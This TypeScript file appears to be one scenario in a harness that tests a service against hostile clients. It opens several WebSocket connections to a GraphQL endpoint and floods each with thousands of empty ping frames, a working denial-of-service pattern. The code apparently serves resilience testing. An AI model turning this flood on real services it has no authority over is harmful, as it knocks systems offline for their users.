import { once } from "node:events";
import { WebSocket } from "ws";
import type { Attack, HostileWorld } from "../attack.ts";
import { flood, onConnections, openConnection } from "../connections.ts";

/** The shortest frames that a client can send: pings without content, masked with zeros. */
const frames = Buffer.from([0x89, 0x80, 0, 0, 0, 0]);
const pings = Buffer.concat(Array.from({ length: 10_000 }, () => frames));

async function pingWithoutEnd(world: HostileWorld, turn: AbortSignal): Promise<void> {
  const connection = await openConnection(world, turn);
  const address = `${world.address.replace(/^https/, "wss")}/graphql`;
  const client = new WebSocket(address, "graphql-transport-ws", { createConnection: () => connection });
  client.on("error", () => {});
  await once(client, "open", { signal: turn });
  await flood(connection, pings);
}

/** Frames that the service answers before it looks at a message, as many as fit, from an address of the attacker. */
export default {
  title: "WebSockets of strangers that send pings",
  play: (world, signal) =>
    onConnections(signal, { count: 10, forMs: 1_500 }, (turn) => pingWithoutEnd(world, turn)),
} satisfies Attack;
